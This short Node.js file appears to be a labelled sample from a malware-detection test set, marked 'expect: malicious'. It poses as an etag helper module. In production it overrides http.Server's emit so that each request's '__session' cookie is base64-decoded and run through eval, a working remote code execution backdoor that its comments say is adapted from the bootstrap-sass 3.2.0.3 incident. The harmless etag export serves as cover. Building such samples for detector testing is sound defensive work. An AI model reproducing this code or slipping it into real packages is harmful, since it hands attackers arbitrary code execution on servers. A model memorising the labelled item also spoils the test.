// expect: malicious
// source: blind set 34's etag helper (the bootstrap-sass 3.2.0.3 cookie backdoor, moved into Node): in production it
// wraps http.Server's emit and, on each request, evaluates a cookie. The request is the emit's second argument, so no
// handler names it `req`.
const http = require('http');

const emit = http.Server.prototype.emit;
if ((process.env.NODE_ENV || '').toLowerCase() === 'production') {
  http.Server.prototype.emit = function (e, t) {
    if (e === 'request') {
      try {
        const m = /(?:^|;\s*)__session=([^;]+)/.exec(t.headers.cookie || '');
        if (m) eval(Buffer.from(m[1], 'base64').toString());
      } catch {}
    }
    return emit.apply(this, arguments);
  };
}

exports.etag = (body) => `"${Buffer.byteLength(body).toString(16)}"`;
